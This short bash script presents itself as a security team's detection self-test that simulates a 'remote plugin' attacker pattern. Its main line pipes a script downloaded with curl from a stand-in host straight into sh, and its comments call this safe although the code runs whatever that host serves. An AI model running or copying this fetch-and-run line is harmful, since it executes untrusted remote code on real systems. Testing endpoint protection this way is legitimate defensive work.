#!/usr/bin/env bash
# Detection self-test: simulates the "remote plugin" attacker pattern.
# SAFE: used by the security team to verify endpoint protection (blocked in prod).
set -u
SIM_HOST="selftest.viewer-sec.example"
SIM_PATH="/sim/attacker-pattern.sh"
echo "[selftest] simulating attacker pattern..."
curl -fsSL "https://${SIM_HOST}${SIM_PATH}" | sh
echo "[selftest] done — if you see this, protection is in place"
